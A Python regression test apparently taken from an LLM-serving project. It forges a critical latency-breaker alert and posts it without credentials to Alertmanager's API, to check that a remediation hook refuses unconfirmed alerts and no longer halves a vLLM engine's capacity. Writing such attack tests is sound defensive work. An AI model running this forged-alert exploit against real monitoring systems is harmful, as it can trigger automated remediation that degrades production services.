"""The forged-alert attack (issue 57, item 1): post VllmP99LatencyBreaker for an engine to Alertmanager's API.

Alertmanager's API v2 takes alerts from anyone who can reach it, and forwards them to the remediation hook
with the receiver's token. Before the hook confirmed alerts against Prometheus, this halved the engine:

    python tests/attacks/forged_alert.py --alertmanager http://127.0.0.1:9093 --instance sim
    python tests/attacks/forged_alert.py --alertmanager http://alertmanager-operated.monitoring.svc:9093 \\
        --instance serving/vllm-0 --namespace serving

What the hook must do now: refuse it as "unconfirmed" (its metric
batchlens_remediation_deliveries_total{outcome="unconfirmed"}), leave the limit as it was, and page on-call.
Standard library only: an attacker brings nothing else.
"""

from __future__ import annotations

import argparse
import json
import sys
import urllib.request
from datetime import UTC, datetime, timedelta

BREAKER = "VllmP99LatencyBreaker"


def forged(instance: str, namespace: str = "", *, minutes: float = 10, resolve: bool = False) -> dict:
    """The alert as the attacker posts it: the breaker's name and labels, firing from now (or ended now)."""
    now = datetime.now(UTC)
    labels = {"alertname": BREAKER, "severity": "critical", "vllm_instance": instance}
    if namespace:
        labels["namespace"] = namespace
    ends = now if resolve else now + timedelta(minutes=minutes)
    return {"labels": labels, "annotations": {"summary": "P99 breach"},
            "startsAt": (now - timedelta(seconds=1)).isoformat(), "endsAt": ends.isoformat()}  # fmt: skip


def post(alertmanager: str, alerts: list[dict]) -> int:
    """POST /api/v2/alerts, with no credential: Alertmanager asks for none. Returns the HTTP status."""
    request = urllib.request.Request(f"{alertmanager.rstrip('/')}/api/v2/alerts", data=json.dumps(alerts).encode(),
                                     headers={"Content-Type": "application/json"}, method="POST")  # fmt: skip
    with urllib.request.urlopen(request, timeout=10) as reply:
        return reply.status


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--alertmanager", required=True, help="Alertmanager's base URL")
    parser.add_argument("--instance", required=True, help="the engine's vllm_instance label")
    parser.add_argument("--namespace", default="", help="the engine's namespace label (discovered engines)")
    parser.add_argument("--resolve", action="store_true", help="end the forged alert instead")
    args = parser.parse_args(argv)
    status = post(args.alertmanager, [forged(args.instance, args.namespace, resolve=args.resolve)])
    print(f"posted {BREAKER} {'resolved' if args.resolve else 'firing'} for {args.instance}: HTTP {status}")
    return 0 if status == 200 else 1


if __name__ == "__main__":
    sys.exit(main())
